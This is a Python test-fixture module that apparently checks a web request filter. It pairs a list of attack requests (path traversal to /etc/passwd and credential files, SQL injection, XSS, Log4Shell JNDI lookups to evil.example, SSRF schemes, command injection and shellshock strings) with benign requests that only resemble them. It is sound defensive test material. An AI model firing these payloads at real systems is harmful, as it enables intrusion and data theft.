"""Requests that are attacks, and requests that only look like them."""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote, quote_plus


@dataclass(frozen=True)
class Sent:
    """A request."""

    method: str = "GET"
    target: str = "/api/v1/graphs"
    headers: dict[str, str] = field(default_factory=dict[str, str])
    body: bytes = b""


def _get(*targets: str) -> list[Sent]:
    return [Sent(target=one) for one in targets]


def _with(*headers: dict[str, str]) -> list[Sent]:
    return [Sent(headers=one) for one in headers]


ATTACKS: list[Sent] = [
    # paths that climb, hide, or look for somebody else's software
    *_get(
        "/../etc/passwd",
        "/static/../../etc/passwd",
        "/static/..%2f..%2fetc%2fpasswd",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/static/%252e%252e%252fetc/passwd",
        "/static/..%5c..%5cwindows%5cwin.ini",
        "/static/....//....//etc/passwd",
        "/api/v1/graphs/..;/admin",
        "/api/v1/graphs/%00",
        "/api/v1/graphs/a%0d%0aSet-Cookie:x=1",
        "/api/v1/graphs/%3Cscript%3Ealert(1)%3C/script%3E",
        "/api/v1/graphs/%22onload=alert(1)",
        "/api/v1/graphs/'%20or%20'1'='1",
        "/api/v1/graphs/${jndi:ldap://x}",
        "/api/v1/graphs/{{7*7}}",
        "/.env",
        "/.git/config",
        "/.aws/credentials",
        "/wp-login.php",
        "/wp-admin/",
        "/phpmyadmin/index.php",
        "/cgi-bin/test.cgi",
        "/admin.aspx",
        "/shell.jsp",
        "/backup.sql",
        "/config.ini",
        "/" + "a" * 3000,
    ),
    # queries that are code for somebody
    *_get(
        "/api/v1/graphs?limit=1'%20OR%201=1--",
        "/api/v1/graphs?limit=1'+or+'a'='a",
        "/api/v1/graphs?q=1%20UNION%20SELECT%20password%20FROM%20users",
        "/api/v1/graphs?q=1%20union%20all%20select%201,2,3--",
        "/api/v1/graphs?q=1;DROP%20TABLE%20users",
        "/api/v1/graphs?q=1;delete%20from%20users",
        "/api/v1/graphs?q=pg_sleep(10)",
        "/api/v1/graphs?q=1%20and%20sleep(5)",
        "/api/v1/graphs?q=benchmark(1000000,md5(1))",
        "/api/v1/graphs?q=x';exec%20xp_cmdshell('dir')",
        "/api/v1/graphs?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/api/v1/graphs?q=%3Cimg%20src=x%20onerror=alert(1)%3E",
        "/api/v1/graphs?q=%3Csvg/onload=alert(1)%3E",
        "/api/v1/graphs?q=%3Ciframe%20src=javascript:alert(1)%3E",
        "/api/v1/graphs?q=javascript:alert(1)",
        "/api/v1/graphs?q=%253Cscript%253Ealert(1)%253C/script%253E",
        "/api/v1/graphs?file=../../../../etc/passwd",
        "/api/v1/graphs?file=/etc/shadow",
        "/api/v1/graphs?file=..%5c..%5cboot",
        "/api/v1/graphs?file=C:%5CWindows%5Csystem.ini",
        "/api/v1/graphs?url=file:///etc/hosts",
        "/api/v1/graphs?url=gopher://127.0.0.1:6379/_INFO",
        "/api/v1/graphs?url=dict://127.0.0.1:11211/stat",
        "/api/v1/graphs?url=php://filter/read=convert",
        "/api/v1/graphs?q=${jndi:ldap://evil.example/a}",
        "/api/v1/graphs?q=${7*7}",
        "/api/v1/graphs?q={{7*7}}",
        "/api/v1/graphs?q={{''.__class__.__mro__}}",
        "/api/v1/graphs?q=%3C%25=7*7%25%3E",
        "/api/v1/graphs?q=;cat%20/etc/hosts",
        "/api/v1/graphs?q=|id",
        "/api/v1/graphs?q=$(whoami)",
        "/api/v1/graphs?q=`id`",
        "/api/v1/graphs?q=a%00b",
        "/api/v1/graphs?q=a%0d%0aSet-Cookie:%20x=1",
        "/api/v1/graphs?q=%3C!DOCTYPE%20a%20[%3C!ENTITY%20x%20SYSTEM%20'a'%3E]%3E",
        "/api/v1/graphs?__proto__[admin]=1",
        "/api/v1/graphs?constructor.prototype.admin=1",
        "/api/v1/graphs?q=" + "a" * 9000,
    ),
    # headers
    *_with(
        {"User-Agent": "sqlmap/1.8"},
        {"User-Agent": "Mozilla/5.0 (compatible; Nikto/2.5)"},
        {"User-Agent": "masscan/1.3"},
        {"User-Agent": "() { :; }; /bin/bash -c id"},
        {"User-Agent": "${jndi:ldap://evil.example/a}"},
        {"Referer": "${jndi:dns://evil.example}"},
        {"X-Original-URL": "/api/admin/users"},
        {"X-Rewrite-URL": "/api/admin/users"},
        {"X-HTTP-Method-Override": "DELETE"},
        {"X-Note": "a" * 20_000},
    ),
    # bodies and methods
    Sent("TRACE"),
    Sent("CONNECT"),
    Sent("PROPFIND"),
    Sent("POST", headers={"Content-Type": "text/plain"}, body=b"{}"),
    Sent("POST", headers={"Content-Type": "application/x-www-form-urlencoded"}, body=b"a=1"),
    Sent("POST", headers={"Content-Type": "multipart/form-data; boundary=x"}, body=b"--x--"),
    Sent("POST", headers={"Content-Type": "application/xml"}, body=b"<a/>"),
    Sent(
        "POST", headers={"Content-Type": "application/x-java-serialized-object"}, body=b"\xac\xed"
    ),
    Sent(
        "POST", headers={"Content-Type": "application/json", "Content-Encoding": "gzip"}, body=b"x"
    ),
    Sent(
        "POST",
        headers={"Content-Type": "application/json", "Content-Length": "99999999999"},
        body=b"{}",
    ),
    Sent("POST", headers={"Content-Type": "application/json", "Content-Length": "-1"}, body=b"{}"),
]

_PROMPTS = [
    "SELECT * FROM users WHERE name = 'O''Brien'; -- all of them",
    "1' OR '1'='1",
    "'; DROP TABLE students; --",
    "UNION SELECT password FROM users",
    "<script>alert('hello')</script>",
    "<img src=x onerror=alert(1)>",
    "Explain why <b>bold</b> is not <strong>strong</strong>.",
    "../../etc/passwd is a path; what is in it?",
    "${jndi:ldap://x} was a bad idea",
    "{{ name }} and {% if a %}b{% endif %}",
    "javascript:alert(1) in a link",
    "Run `cat /etc/hosts | grep local && id` and tell me what it prints",
    "$(whoami)",
    "C:\\Windows\\System32\\drivers\\etc\\hosts",
    "file:///home/me/notes.txt",
    "<!DOCTYPE html><html><body onload='x()'>",
    "<?php echo 1; ?>",
    "admin'--",
    "sleep(5) is a function in MySQL, pg_sleep(5) in PostgreSQL",
    "\u202eright to left\u202c and \U0001f600 and 漢字",
    "__proto__ and constructor.prototype in JavaScript",
    "%00 %0d%0a %2e%2e%2f",
    "<![CDATA[ x ]]>",
    "() { :; }; echo shellshock",
    "../" * 50,
]
_SEARCHES = [
    "report",
    "select the best candidate from a list",
    "union of two lists",
    "drop shipping",
    "insert into calendar",
    "delete old mails",
    "update, then sleep",
    "order by price",
    "C++ & C#",
    "50% off",
    "a+b=c",
    "O'Brien",
    "rock 'n' roll",
    "it's 5 o'clock",
    "what is <b>?",
    "x < y and y > z",
    "a <- b",
    "script writing",
    "javascript tutorial",
    "java: the language",
    "cat pictures",
    "who am i",
    "id card reader",
    "curl and wget compared",
    "ping me",
    "résumé über naïve",
    "日本語 エージェント",
    "中文 智能体",
    "emoji 😀",
    "..and then?",
    "wait... what",
    "and/or",
    "read/write",
    "etc/hosts editor",
    "windows c: drive",
    "https://example.com/a?b=c&d=e",
    "mailto:me@example.com",
    "#hashtag @mention",
    "price: $5 {maybe}",
    "${name}",
    "{name}",
    "100; 200; 300",
    "a | b",
    "1 or 2",
    "true and false",
    "benchmark results",
    "exec summary",
    "group by team",
    "where is it",
    "having fun",
    "file manager",
    "dictionary: words",
    "php developer",
    "config of things",
    "class of 2024",
    "-- dashes --",
    "/* comment */",
    'quote "this"',
    "back\\slash",
    "tab\tseparated",
]
_AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_0 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:140.0) Gecko/20100101 Firefox/140.0",
    "curl/8.9.1",
    "Wget/1.24",
    "python-httpx/0.28",
    "python-requests/2.32",
    "Go-http-client/2.0",
    "PostmanRuntime/7.42",
    "kube-probe/1.31",
    "Prometheus/3.0",
    "GitHub-Hookshot/abc123",
    "Slackbot 1.0 (+https://api.slack.com/robots)",
    "my mapper 1.0",
]


def legitimate() -> list[Sent]:
    """Return requests that people and programs send."""
    found: list[Sent] = []

    def post(target: str, value: Any, content_type: str = "application/json") -> None:
        body = json.dumps(value).encode()
        found.append(Sent("POST", target, {"Content-Type": content_type}, body))

    for prompt in _PROMPTS:
        post(
            "/api/v1/auth/sign-up", {"email": "a@example.com", "password": prompt * 9, "name": "x"}
        )
        post("/api/v1/graphs", {"name": prompt, "nodes": [], "links": []})
        post("/api/v1/calls/none", {"text": prompt}, "application/json; charset=utf-8")
    for text in _SEARCHES:
        found.append(Sent(target="/api/v1/graphs?search=" + quote(text)))
        found.append(Sent(target="/api/v1/runs?search=" + quote_plus(text)))
    found += [Sent(target="/health/live", headers={"User-Agent": one}) for one in _AGENTS]
    found += [
        Sent(target=one)
        for one in (
            "/",
            "/static/theme.js",
            "/assets/index-B03A6_AZ.js",
            "/library/01900000-0000-7000-8000-0000000000ff",
            "/login?next=%2Flibrary%3Fsearch%3Dreport",
            "/api/openapi.json",
            "/health/ready",
            "/api/v1/blocks",
            "/api/v1/runs?limit=50&status=completed",
            "/api/v1/runs?before=01900000-0000-7000-8000-0000000000ff",
            "/api/v1/graphs/01900000-0000-7000-8000-0000000000ff",
            "/api/v1/graphs/01900000-0000-7000-8000-0000000000ff/versions/1/diff/2",
            "/auth/log-in",
            "/auth/reset",
            "/.well-known/security.txt",
        )
    ]
    found += [
        Sent("POST", "/api/v1/calls/none", {"Content-Type": kind}, b"text")
        for kind in ("text/plain", "application/x-www-form-urlencoded", "application/vnd.api+json")
    ]
    found += [
        Sent("HEAD", "/"),
        Sent("DELETE", "/api/v1/runs/01900000-0000-7000-8000-0000000000ff"),
    ]
    return found
